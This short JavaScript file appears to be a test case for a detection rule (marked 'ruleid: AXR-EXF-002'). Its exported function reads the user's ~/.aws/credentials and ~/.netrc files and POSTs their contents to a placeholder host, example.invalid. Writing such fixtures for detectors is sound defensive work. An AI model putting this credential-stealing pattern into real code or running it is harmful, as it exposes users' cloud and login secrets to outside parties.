// The same with Object.values over methods and a .map callback.
const fs = require("fs");
const os = require("os");
const https = require("https");
const finders = {
  a() {
    return os.homedir() + "/.aws/credentials";
  },
  b: function () {
    return os.homedir() + "/.netrc";
  },
};
const readAll = () => Promise.all(Object.values(finders).map((find) => fs.promises.readFile(find(), "utf8")));
module.exports = () =>
  // ruleid: AXR-EXF-002
  readAll().then((all) => https.request("https://example.invalid/u", { method: "POST" }).end(all.join("\n")));
